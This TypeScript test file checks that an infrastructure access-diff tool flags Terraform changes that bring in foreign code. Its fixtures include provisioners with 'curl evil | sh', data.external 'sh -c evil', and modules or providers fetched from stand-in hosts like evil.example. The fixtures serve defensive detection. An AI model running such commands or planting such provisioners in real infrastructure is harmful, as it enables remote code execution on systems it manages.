import { accessDiff } from "../../../access/diff";
import { verdictOf } from "../../../access/diff-summary";
import { type Case, testDangerous } from "../support/matrix";
import { type Layer, Production } from "../support/production";

/** Change of a block of a stack that is neither a resource nor a data source. */
const block =
  (kind: string, name: string, body: unknown, layer: Layer = "config") =>
  (production: Production) => {
    const stack = production.stack(layer);
    stack[kind] = { ...(stack[kind] as object | undefined), [name]: body };
  };
const data =
  (type: string, body: object, layer: Layer = "config") =>
  (production: Production) =>
    block("data", type, { Added: body }, layer)(production);
const provisioned = (
  type: string,
  provisioner: string,
  body: object = { command: "curl evil | sh" },
): Case => [
  `${provisioner} of ${type}`,
  (production) => production.add(type, { provisioner: { [provisioner]: body } }, "config"),
  "provisioner",
  "foreign code",
];

describe("access diff of production: code from outside", () => {
  testDangerous([
    [
      "a module from git",
      block("module", "m", { source: "git::https://git.example/m.git" }),
      "git.example",
      "foreign code",
    ],
    [
      "a module from a registry",
      block("module", "m", { source: "evil/vault/aws", version: "1.0.0" }),
      "evil/vault/aws",
    ],
    [
      "a module from an archive",
      block("module", "m", { source: "https://evil.example/m.zip" }),
      "evil.example",
    ],
    [
      "another version of a module",
      [
        block("module", "m", { source: "a/b/c", version: "1.0.0" }),
        block("module", "m", { source: "a/b/c", version: "2.0.0" }),
      ],
      "module.m",
    ],
    provisioned("terraform_data", "local-exec"),
    provisioned("null_resource", "local-exec"),
    provisioned("vault_mount", "local-exec"),
    provisioned("terraform_data", "remote-exec", { inline: ["id"] }),
    provisioned("terraform_data", "file", { source: "a", destination: "b" }),
    [
      "a program when a resource of the platform is destroyed",
      (production) =>
        (production.resource("vault_audit").provisioner = {
          "local-exec": [{ when: "destroy", command: "evil" }],
        }),
      "local-exec",
      "foreign code",
    ],
    [
      "a program by data.external",
      data("external", { program: ["sh", "-c", "evil"] }),
      "external",
      "foreign code",
    ],
    ["a value by data.http", data("http", { url: "https://evil.example" }), "http", "foreign code"],
    [
      "another source of a provider",
      (production) => (production.stack("config").terraform.required_providers.vault.source = "evil/vault"),
      "evil/vault",
      "foreign code",
    ],
    [
      "a further provider",
      (production) =>
        (production.stack("config").terraform.required_providers.evil = {
          source: "evil/evil",
          version: "1.0.0",
        }),
      "evil",
      "foreign code",
    ],
    [
      "another version of a provider",
      (production) => (production.stack("config").terraform.required_providers.vault.version = ">= 1.0.0"),
      "vault",
    ],
    [
      "a function of a provider in a policy",
      (production) =>
        (production.resource("vault_policy", "production-payment-service").policy =
          "${provider::evil::policy()}"),
      "unreadable",
    ],
  ]);
});

describe("access diff of production: suppressions", () => {
  const production = new Production().read();
  const facts = (reason: string) => ({
    owners: [],
    suppressions: [{ path: "production-config/Audit", ruleId: "audit-devices", reason }],
  });
  const none = { owners: [], suppressions: [] };
  const levels = new Map([["audit-devices", "error"]]) as never;

  it("names as dangerous: a check is switched off", () => {
    const diffs = accessDiff(production, production, { before: none, after: facts("for a test"), levels });

    expect(verdictOf(diffs)).toBe("dangerous");
    expect(diffs.flatMap(({ changes }) => changes)).toEqual([
      expect.objectContaining({ kind: "suppression", labels: ["suppression"] }),
    ]);
  });

  it("names another reason for it", () => {
    const diffs = accessDiff(production, production, { before: facts("a"), after: facts("b"), levels });

    expect(diffs.flatMap(({ changes }) => changes)).toHaveLength(1);
  });
});
